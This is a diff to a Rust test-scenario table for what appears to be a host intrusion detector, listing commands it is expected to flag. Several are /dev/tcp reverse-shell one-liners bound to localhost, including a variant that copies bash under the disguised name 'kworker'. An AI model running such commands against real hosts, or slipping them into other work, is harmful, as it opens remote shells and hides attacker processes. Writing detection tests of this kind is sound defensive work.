@@ -152,7 +152,7 @@ pub const SCENARIOS: &[Scenario] = &[
         what: "a compiler runs on a production host (compile after delivery)",
         spellings: &[
             r("gcc --version", Sh("gcc --version"), Rule, "/usr/bin/gcc"),
-            r("cc via alternatives", Sh("/usr/bin/cc --version"), Rule, "/usr/bin/cc"),
+            r("cc via alternatives", Sh("/usr/bin/cc -dumpversion"), Rule, "/usr/bin/cc"),
             r("make --version", Sh("make --version"), Rule, "/usr/bin/make"),
         ],
     },
@@ -164,8 +164,8 @@ pub const SCENARIOS: &[Scenario] = &[
         what: "a shell wires its stdin and stdout to a TCP connection (/dev/tcp redirection)",
         spellings: &[
             r("/bin/bash", Sh("/bin/bash -c 'exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0; read -t 1 _ || true'"), Rule, "/bin/bash"),
-            r("bash from PATH, from a subshell", Sh("bash -c 'exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0; read -t 1 _ || true'; true"), Rule, "/bin/bash"),
-            r("renamed bash (kworker)", Sh("cp /bin/bash {w}/kworker && {w}/kworker -c 'exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0; read -t 1 _ || true'"), Anomaly, "/bin/bash"),
+            r("bash from PATH through a spare fd, from a subshell", Sh("bash -c 'exec 5<>/dev/tcp/127.0.0.1/{port}; exec 0<&5 1>&5 5<&-; read -t 1 _ || true'; true"), Rule, "/bin/bash"),
+            r("renamed bash (kworker)", Sh("cp /bin/bash {w}/kworker && {w}/kworker -c 'exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0; read -t 1 _ || true'"), Rule, "/bin/bash"),
         ],
     },
     Scenario {
